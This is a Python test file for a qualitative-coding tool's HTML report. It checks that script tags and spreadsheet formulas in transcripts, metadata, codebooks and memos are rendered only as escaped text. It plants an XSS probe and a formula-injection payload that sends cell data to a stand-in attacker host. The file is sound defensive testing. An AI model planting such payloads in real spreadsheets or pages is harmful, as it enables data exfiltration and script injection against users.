"""The HTML report page, byte for byte: golden pages under tests/golden/html/.

The pages were first written by the f-string builder the templates replaced, so these tests hold
the templates to the page as it was (same bytes, entity spellings included). They cover the demo
project (transcripts/ coded with codebooks/justice.yaml), the browser tests' project (markup and
script in a transcript, an attribute and a code label, a character outside the BMP), with and
without a comparison, capped, with context, and with memos. The package's style sheet and script
are checked to be inlined whole and stand in the goldens as their file names. ``pytest
--regen-golden`` rewrites them; review the diff like code.
"""

from __future__ import annotations

import html
import json
import re
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import pytest
from typer.testing import CliRunner

import report_project
from qualcode.cli import app
from qualcode.exports.html_report import html_page
from qualcode.exports.templates import asset
from qualcode.memos import add_memo
from qualcode.report import ReportOptions, build_report, compare
from qualcode.store import Store
from test_html_report import build_project as build_markup_project

pytest_plugins = ["golden_plugin"]

ROOT = Path(__file__).resolve().parents[1]
MADE = datetime(2026, 1, 2, 3, 4, tzinfo=UTC)
STAMP = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(?:\.\d+)?\+00:00")
SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
HOSTILE = f"""Interviewer: Anything about housing?

Ana Smith: {SCRIPT} went into the housing form.

Ana Smith: {FORMULA} was typed about housing too.
"""


def own_parts_out(text: str) -> str:
    """The page with the package's own style sheet and script, checked to be inlined whole, each
    replaced by its file's name: the goldens hold what the page adds, and a change to report.css
    or report.js does not rewrite every one of them."""
    for tag, name in (("style", "report.css"), ("script", "report.js")):
        inline = f"<{tag}>{asset(name)}</{tag}>"
        assert text.count(inline) == 1, f"{name} is not inlined once, whole"
        text = text.replace(inline, f"<{tag}>/* {name}, inlined whole */</{tag}>")
    return text


def page(project: Path, *, compared: bool = True, **options: object) -> bytes:
    with Store.open(project) as store:
        report_options = ReportOptions()
        report = build_report(store, report_options)
        comparison = compare(report) if compared else None
        text, _ = html_page(
            store,
            report_options,
            report,
            comparison,
            made_at=MADE,
            **options,  # type: ignore[arg-type]
        )
    return own_parts_out(text).encode("utf-8")


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> Path:
    project = tmp_path_factory.mktemp("demo") / "demo.qualcode"
    runner = CliRunner()
    for args in (
        ["ingest", str(ROOT / "transcripts")],
        ["code", "--codebook", str(ROOT / "codebooks" / "justice.yaml")],
    ):
        result = runner.invoke(app, ["--project", str(project), *args])
        assert result.exit_code == 0, result.output
    return project


@pytest.fixture(scope="module")
def markup(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build_markup_project(tmp_path_factory.mktemp("markup"))


def test_demo_page(demo: Path, golden: Callable[[str, bytes], None]) -> None:
    golden("html/demo.html", page(demo))


def test_demo_page_capped_with_context(demo: Path, golden: Callable[[str, bytes], None]) -> None:
    golden("html/demo-capped-context.html", page(demo, max_quotes=2, context=1))


def test_markup_page(markup: Path, golden: Callable[[str, bytes], None]) -> None:
    golden("html/markup.html", page(markup))


def test_markup_page_without_comparison(markup: Path, golden: Callable[[str, bytes], None]) -> None:
    golden("html/markup-shares.html", page(markup, compared=False, max_quotes=None))


def test_page_with_memos(tmp_path: Path, golden: Callable[[str, bytes], None]) -> None:
    project = report_project.build_project(tmp_path / "study.qualcode")
    with Store.open(project) as store:
        add_memo(store, '<script>alert("memo")</script> & <b>it\'s bold</b>', "project", "laia")
        add_memo(store, "Officer, not resident.\nCheck the role.", "b1_officer.txt#1", "marc")
        add_memo(store, "Housing means rent here.", "inequality/housing", "laia")
    # a memo records when it was written: that time is set to MADE's in the page
    text = STAMP.sub(MADE.isoformat(), page(project, context=1).decode("utf-8"))
    golden("html/memos.html", text.encode("utf-8"))


def test_script_and_formula_in_a_transcript_are_text_everywhere(tmp_path: Path) -> None:
    """The transcript's name, attribute, speaker, text and a memo carry a script tag and a
    spreadsheet formula: outside the JSON block (where ``<`` is ``\\u003c``) each appears only
    escaped, and no element but the page's own two scripts exists."""
    folder = tmp_path / "transcripts" / "birmingham"
    folder.mkdir(parents=True)
    (folder / "a.txt").write_text(HOSTILE, encoding="utf-8")
    (tmp_path / "transcripts" / "metadata.csv").write_text(
        'file,city,role\nbirmingham/a.txt,Birmingham,"<script>alert(1)</script>"\n',
        encoding="utf-8",
    )
    project = tmp_path / "p.qualcode"
    runner = CliRunner()
    codebook = tmp_path / "codebook.yaml"
    codebook.write_text(
        "name: hostile\nversion: '1'\nlanguages: [en]\ncodes:\n"
        '  - id: housing\n    label: <script>alert(1)</script> =HYPERLINK("x")\n'
        "    description: <script>alert(1)</script>\n    patterns:\n      en: [housing]\n",
        encoding="utf-8",
    )
    for args in (
        ["ingest", str(tmp_path / "transcripts")],
        ["code", "--codebook", str(codebook)],
    ):
        result = runner.invoke(app, ["--project", str(project), *args])
        assert result.exit_code == 0, result.output
    with Store.open(project) as store:
        add_memo(store, f"{SCRIPT} {FORMULA}", "project", "laia")
    text = page(project, compared=False, context=1).decode("utf-8")
    data = re.search(r'<script type="application/json" id="qualcode-data">(.*?)</script>', text)
    assert data is not None
    markup_part = text.replace(data.group(0), "")
    assert markup_part.count("<script") == 1  # the page's own script
    assert SCRIPT not in markup_part and "<script>alert" not in text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in markup_part
    escaped_formula = html.escape(FORMULA)
    assert escaped_formula in markup_part  # the memo: as text, never a link
    assert FORMULA not in text
    assert "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e" in data.group(1)
    assert json.dumps(FORMULA)[1:-1].replace("&", "\\u0026") in data.group(1)


# -- qualcode show --format html: the document page ----------------------------------------------

PARLAMENT = ROOT.parent / "shared" / "corpora" / "parlament-catalunya" / "PCAT-0601-20052021.docx"
B01 = (
    "Interviewer: Who decides on the budget?\n\n"
    "[inaudible]\n\n"
    "Sarah Malik: The cabinet, in the end.\n"
    "The council meets in March (laughs) and <b>then</b>.\n\n"
    "10:42\n\n"
    "Interviewer: And <script>alert('x')</script> & =HYPERLINK(\"x\") then?\n"
)


@pytest.mark.parametrize(
    ("source", "name"), [("b01", "birmingham/b01.txt"), ("parlament", PARLAMENT.name)]
)
@pytest.mark.parametrize("form", ["html", "text"])
def test_document_page(
    tmp_path: Path, golden: Callable[[str, bytes], None], source: str, name: str, form: str
) -> None:
    corpus = tmp_path / "transcripts"
    if source == "b01":
        (corpus / "birmingham").mkdir(parents=True)
        (corpus / "birmingham" / "b01.txt").write_text(B01, encoding="utf-8")
    else:
        if not PARLAMENT.exists():
            pytest.skip(f"no {PARLAMENT}")
        corpus.mkdir()
        (corpus / PARLAMENT.name).write_bytes(PARLAMENT.read_bytes())
    project = tmp_path / "p.qualcode"
    out = tmp_path / "page.out"
    runner = CliRunner()
    for args in (
        ["ingest", str(corpus)],
        ["show", name, "--format", form, "--out", str(out)],
    ):
        result = runner.invoke(app, ["--project", str(project), *args])
        assert result.exit_code == 0, result.output
    golden(f"html/show-{source}.{form}", out.read_bytes())
